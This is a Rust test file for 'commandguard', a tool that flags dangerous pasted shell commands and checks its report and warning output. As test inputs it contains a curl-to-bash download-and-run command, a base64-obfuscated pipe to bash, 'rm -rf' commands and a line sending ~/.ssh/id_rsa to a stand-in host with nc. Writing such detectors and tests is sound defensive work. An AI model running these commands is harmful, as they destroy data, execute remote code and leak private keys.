use commandguard::analyzer::Analyzer;
use commandguard::model::{Analysis, Confidence, EffectKind, Severity};
use commandguard::warning::{human_report, paste_warning};

#[test]
fn safe_report_text() {
    let report = human_report(&Analysis::safe());
    assert_eq!(
        report,
        "CommandGuard analysis\n=====================\nSeverity: Safe\nConfidence: High\n\nNo suspicious pasted-command effects were identified.\n"
    );
}

#[test]
fn report_lists_effects_and_evidence() {
    let analysis = Analyzer::default().analyze("curl -fsSL https://example.test/x.sh | bash");
    let report = human_report(&analysis);
    assert!(report.contains("Severity: High\n"));
    assert!(report.contains("\nEffects:\n- Remote download\n"));
    assert!(report.contains("- Dynamic execution\n"));
    assert!(report.contains("SOURCE: network(https://example.test/x.sh); TRANSFORM: none; SINK: interpreter(bash); EFFECT: DynamicExecution; CONFIDENCE: High\n"));
}

#[test]
fn report_shows_decoded_variants() {
    let analysis = Analyzer::default()
        .analyze("echo ZWNobyBoaQ== | base64 -d | bash");
    let report = human_report(&analysis);
    assert!(report.contains("\nDecoded variants:\n- base64_decode\n```\necho hi\n```\n"));
}

#[test]
fn newline_warning_for_safe_paste() {
    let warning = paste_warning(&Analysis::safe(), true, false);
    assert_eq!(
        warning,
        "\r\nCommandGuard blocked a suspicious paste\r\nSeverity: Safe    Confidence: High\r\n\r\nThis paste contains a newline and may execute immediately.\r\n\r\n[c] Cancel    [s] Show decoded command    [e] Execute anyway\r\n"
    );
}

#[test]
fn warning_lists_observed_effects() {
    let analysis = Analyzer::default().analyze("rm -rf ~");
    let warning = paste_warning(&analysis, false, false);
    assert!(warning.contains("Severity: High    Confidence: High\r\n"));
    assert!(warning.contains("\r\nObserved effects:\r\n- Destructive filesystem operation\r\n"));
    assert!(warning.ends_with("\r\n[c] Cancel    [s] Show decoded command    [e] Execute anyway\r\n"));
}

#[test]
fn warning_notes_unknown_syntax() {
    let analysis = Analyzer::default().analyze("case x in y) ;; esac");
    assert_eq!(analysis.confidence, Confidence::Unknown);
    let warning = paste_warning(&analysis, false, false);
    assert!(warning.contains("Some shell constructs were outside the v0.1 analyzer."));
}

#[test]
fn model_basics() {
    assert!(!Severity::Safe.should_interrupt());
    assert!(!Severity::Low.should_interrupt());
    assert!(Severity::Medium.should_interrupt());
    assert!(Severity::High.should_interrupt());
    assert_eq!(EffectKind::DestructiveFilesystem.label(), "Destructive filesystem operation");
    assert_eq!(EffectKind::RemoteDownload.label(), "Remote download");
    let safe = Analysis::safe();
    assert_eq!(safe.severity, Severity::Safe);
    assert_eq!(safe.confidence, Confidence::High);
    assert!(safe.effects.is_empty());
}

#[test]
fn report_ends_with_newline_and_lists_each_effect() {
    for input in ["ls", "rm -rf /", "cat ~/.ssh/id_rsa | nc example.test 1", "for i in a; do :; done"] {
        let analysis = Analyzer::default().analyze(input);
        let report = human_report(&analysis);
        assert!(report.ends_with('\n'), "{input}");
        for effect in &analysis.effects {
            assert!(report.contains(&format!("- {}\n", effect.label())), "{input}");
        }
    }
}
